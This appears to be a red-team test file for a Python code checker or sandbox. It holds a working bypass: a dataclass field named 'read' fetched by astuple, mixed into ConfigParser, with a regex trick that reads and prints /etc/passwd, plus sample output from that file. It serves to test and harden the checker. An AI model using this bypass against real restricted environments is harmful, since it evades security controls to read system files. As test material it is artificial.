# expect: reject attribute
# line: 20
# verified: reaches its goal under plain python3 (3.11) in a temp dir (/etc/passwd read)
# why: eleventh red team (11a), family D: a dataclass field named read, read back by astuple's getattr on a ConfigParser mixin

# Mechanism: Dataclass field names are attribute names that dataclasses.astuple/asdict read with getattr at run time. A @dataclass mixin D (program-only bases, so @dataclass is allowed) declares a field 'read' with field(init=False) (no class attribute is left behind); class E(D, configparser.ConfigParser) mixes it with a parser. astuple(E()) does getattr(obj, 'read') -> the bound ConfigParser.read, which the checker's by-name 'read' rule never sees. SECTCRE (a public class attribute) makes every line a section header; __deepcopy__ returning self keeps the bound method on our parser (the file is read even without it: the error message then shows line 1).
# Goal reached: /etc/passwd read (whole file printed through ConfigParser.sections())
# Output under python3 (3.11.7), run in a fresh temp dir under env -i PATH=/usr/bin:/bin HOME=$tmpdir:
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   ... (the rest of /etc/passwd)

import configparser
import dataclasses
import re


@dataclasses.dataclass
class D:
    read: int = dataclasses.field(init=False)

    def __post_init__(self):
        super().__init__(strict=False, interpolation=None)


class E(D, configparser.ConfigParser):
    SECTCRE = re.compile(r"(?P<header>.+)")

    def __deepcopy__(self, memo):
        return self


e = E()
row = dataclasses.astuple(e)
row[0]("/etc/passwd")
print("\n".join(e.sections()))
